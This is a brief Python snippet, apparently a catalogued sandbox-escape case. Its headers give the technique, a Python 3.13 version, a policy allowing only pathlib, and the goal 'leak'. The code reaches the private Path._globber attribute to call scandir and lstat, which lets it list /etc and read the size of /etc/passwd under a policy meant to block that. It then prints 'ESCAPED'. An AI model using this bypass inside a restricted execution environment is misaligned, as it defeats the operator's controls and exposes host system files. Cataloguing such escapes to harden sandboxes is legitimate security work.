# technique: pathlib's glob keeps the C functions scandir and lstat in a class' attributes
# python: 3.13
# policy: imports pathlib = Path
# goal: leak
# source: own analysis: what a crawler found
from pathlib import Path

globber = Path._globber
print("ESCAPED", sorted(entry.name for entry in globber.scandir("/etc"))[:3],
      globber.lstat("/etc/passwd").st_size)
